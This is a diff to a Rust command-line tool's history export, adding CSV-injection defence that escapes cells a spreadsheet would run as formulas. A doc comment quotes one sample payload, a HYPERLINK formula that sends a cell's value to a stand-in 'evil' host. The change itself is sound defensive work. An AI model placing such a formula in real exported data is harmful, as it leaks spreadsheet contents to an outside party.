@@ -1,6 +1,8 @@
 //! `corral history`: request metadata from the store, as a table, CSV or JSON.
 //!
-//! Reads the SQLite file directly (read-only; WAL lets it run beside a live broker).
+//! Reads the SQLite file directly (read-only; WAL lets it run beside a live broker). CSV cells
+//! that a spreadsheet would run as a formula are prefixed with `'` (model names, paths and
+//! error texts come from clients).
 
 use std::path::Path;
 use std::process::ExitCode;
@@ -59,18 +61,45 @@ async fn print(db: &Path, query: Query, format: Format) -> ExitCode {
             }
         },
         Format::Csv => {
-            let mut w = csv::Writer::from_writer(std::io::stdout());
-            for r in &rows {
-                if let Err(e) = w.serialize(r) {
-                    eprintln!("error: {e}");
-                    return ExitCode::from(1);
-                }
+            if let Err(e) = write_csv(&rows, std::io::stdout()) {
+                eprintln!("error: {e}");
+                return ExitCode::from(1);
             }
-            let _ = w.flush();
         }
         Format::Table => table(&rows),
     }
     ExitCode::SUCCESS
+}
+
+/// The rows as CSV, a header first, every cell made safe for a spreadsheet ([`cell`]). The rows
+/// are serialized once (so the columns are `RequestRow`'s fields, in order) and each record's
+/// cells rewritten on the way out.
+fn write_csv(rows: &[RequestRow], out: impl std::io::Write) -> Result<(), csv::Error> {
+    let mut plain = csv::Writer::from_writer(Vec::new());
+    for r in rows {
+        plain.serialize(r)?;
+    }
+    let bytes = plain.into_inner().map_err(|e| csv::Error::from(e.into_error()))?;
+    let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
+    let mut w = csv::Writer::from_writer(out);
+    for record in read.records() {
+        w.write_record(record?.iter().map(|c| cell(c).into_owned()))?;
+    }
+    w.flush()?;
+    Ok(())
+}
+
+/// A cell a spreadsheet shows as text: one that starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return would be read as a formula (a model name such as
+/// `=HYPERLINK("http://evil/?"&A1)`), so it gets a leading `'`, OWASP's advice for CSV
+/// injection. Numbers (`-1`) are left as they are.
+pub fn cell(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
+    if risky {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
 }
 
 fn table(rows: &[RequestRow]) {
